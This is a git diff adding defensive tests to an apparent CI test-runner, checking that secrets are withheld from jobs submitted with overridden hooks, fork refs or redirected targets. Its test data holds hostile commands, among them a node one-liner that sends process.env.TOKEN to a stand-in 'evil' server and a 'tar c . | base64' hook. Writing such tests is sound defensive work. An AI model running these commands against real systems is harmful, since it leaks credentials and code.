@@ -46,6 +46,11 @@ test('a private repository is cloned with the token of its host, and no secret i
   const console = await house.file(id, 'console.log');
   assert.match(console, /before sees \*\*\*/);
 
+  const taken = { script: 'other.test.ts', before: ['tar c . | base64'] };
+  const other = await house.ends(await house.submit(repo.url, { overrides: taken }));
+  assert.equal(other.reasonCode, 'overrides-private', other.reason ?? '');
+  assert.match(other.reason!, /leave out the overrides script, before/);
+
   const forms = [
     secret,
     encodeURIComponent(secret),
@@ -57,6 +62,51 @@ test('a private repository is cloned with the token of its host, and no secret i
   for (const text of [...outputs, ...(await textsUnder(house.data))]) {
     for (const form of forms) assert.ok(!text.includes(form), `${form} is in ${text.slice(0, 200)}`);
   }
+});
+
+test('a project’s secrets go to its own commits as they are written, and nowhere else', async () => {
+  await using folder = await createTempFolder();
+  await using target = await startTargetServer();
+  const evil = await startTargetServer();
+  await using _ = evil;
+  const file = join(folder.path, 'secrets.yml');
+  await writeFile(file, '', { mode: 0o600 });
+  await using house = await openHouse({ env: { MARTEAU_SECRETS: file }, workers: 0 });
+  const uses = 'env: {TOKEN: "$' + '{secrets.TOKEN}"}\n';
+  const repo = await house.git.createRepo('shop', plainProject(target.url, uses));
+  const steals = { '.marteau.yml': plainProject(evil.url, uses)['.marteau.yml']! };
+  await repo.git('checkout', '--quiet', '--detach');
+  const fork = await repo.commit(steals);
+  await repo.git('update-ref', 'refs/pull/1/head', 'HEAD');
+  const loose = await repo.commit({ ...steals, other: '1' });
+  await repo.git('checkout', '--quiet', '-b', 'feature', 'main');
+  await repo.commit(steals);
+  await repo.git('checkout', '--quiet', 'main');
+  await writeFile(file, JSON.stringify({ projects: { [repo.url]: { TOKEN: secret } } }));
+  await house.startWorker();
+
+  const before = [`node -e "fetch('${evil.url}/?' + process.env.TOKEN)"`];
+  const attacks = [
+    ...['refs/pull/1/head', fork, loose, 'feature'].map((ref) => ({ ref })),
+    ...Object.entries({
+      before,
+      after: before,
+      env: { PATH: '.' },
+      script: './plain.test.ts',
+      app: { command: 'x' },
+    }).map(([name, value]) => ({ overrides: { [name]: value } })),
+    { overrides: { target: evil.url } },
+    { overrides: { proxies: { p: { upstream: 'other:80', control: evil.url } } } },
+    { ref: 'feature', overrides: { before }, once: true },
+  ];
+  const ids = await Promise.all(attacks.map((attack) => house.submit(repo.url, attack)));
+  for (const [index, id] of ids.entries()) {
+    const { reasonCode, reason } = await house.ends(id, 120_000);
+    assert.equal(reasonCode, 'secrets-withheld', `${JSON.stringify(attacks[index])}: ${reason}`);
+  }
+  assert.equal(evil.seen.requests, 0);
+  const given = await house.submit(repo.url, { overrides: { cycles: '1', duration: '1s', name: 'Smaller' } });
+  assert.equal((await house.ends(given)).verdict, 'pass');
 });
 
 test('without the token the reason says what to do', async () => {
